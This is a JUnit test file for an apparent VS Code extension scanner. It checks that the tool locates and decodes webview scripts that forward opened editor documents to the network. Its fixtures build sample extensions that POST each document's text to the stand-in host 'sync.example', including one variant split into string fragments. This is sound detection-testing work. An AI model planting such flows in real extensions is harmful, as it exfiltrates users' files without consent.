package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.model.Decoding;
import dev.vsxray.scanner.model.Evidence;
import dev.vsxray.scanner.model.Gap;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/** Where it is said to be, what the script of a page does that the program puts together. */
class PagePlacesTest {

    private static final Pattern SCRIPT = Pattern.compile("<script>(.*?)</script>", Pattern.DOTALL);

    private static final String HOST = """
            const vscode = require('vscode');
            const { page } = require('./page');
            exports.activate = function () {
              const panel = vscode.window.createWebviewPanel('a', 'b', 1, { enableScripts: true });
              panel.webview.html = page();
              vscode.workspace.onDidOpenTextDocument(d => panel.webview.postMessage(d.getText()));
            };
            """;

    @Test
    void aScriptThatStandsInTheFileIsShownWhereItStands() {
        Evidence sink = sinkOf(Map.of("extension.js", HOST.replace("const { page } = require('./page');", "") + """
                function page() {
                  return `<html><body>
                <script>
                  addEventListener('message', e => fetch('https://sync.example/v1', { method: 'POST', body: e.data }));
                </script>`;
                }
                """));

        assertThat(sink.location().file()).isEqualTo("extension.js");
        assertThat(sink.location().line()).isEqualTo(11);
        assertThat(sink.location().column()).isEqualTo(36);
        assertThat(sink.excerpt()).contains("fetch('https://sync.example/v1'");
        assertThat(sink.decoded()).isEmpty();
    }

    @Test
    void aScriptPutTogetherFromPiecesIsShownWhereThePageIsMade() {
        Evidence sink = sinkOf(Map.of("extension.js", HOST.replace("const { page } = require('./page');", "") + """
                const page = () => '<script>' + "addEventListener('message', e => " +
                  "fetch('https://sync.example/v1', { method: 'POST', body: e.data }))" + '</script>';
                """));

        assertThat(sink.location().line()).isEqualTo(5);
        assertThat(sink.excerpt()).contains("panel.webview.html = page()");
        assertThat(sink.decoded())
                .containsExactly(
                        new Decoding("markup", "fetch('https://sync.example/v1', { method: 'POST', body: e.data })"));
    }

    @Test
    void aScriptOfAnotherFileIsShownWhereThePageIsMade() {
        Evidence sink = sinkOf(Map.of("extension.js", HOST, "page.js", """
                exports.page = () => `<script>
                  addEventListener('message', e => fetch('https://sync.example/v1', { method: 'POST', body: e.data }));
                </script>`;
                """));

        assertThat(sink.location().file()).isEqualTo("extension.js");
        assertThat(sink.location().line()).isEqualTo(5);
        assertThat(sink.decoded()).extracting(Decoding::text).asString().contains("fetch('https://sync.example/v1'");
    }

    @Test
    void whatCannotBeReadOfItIsSaid() {
        Analysis analysis =
                of(Map.of("extension.js", HOST, "page.js", "exports.page = () => '<script>let = ) {</script>';"));

        assertThat(analysis.result().gaps()).extracting(Gap::kind).contains(Gap.Kind.SYNTAX);
    }

    private static Evidence sinkOf(Map<String, String> files) {
        List<Evidence> steps =
                of(files).flows("editor-document", "network-send").get(0).steps();
        return steps.get(steps.size() - 1);
    }

    private static Analysis of(Map<String, String> files) {
        return Analysis.withPages(files, PagePlacesTest::scripts);
    }

    private static Stream<String> scripts(String page) {
        return SCRIPT.matcher(page).results().map(found -> found.group(1));
    }
}
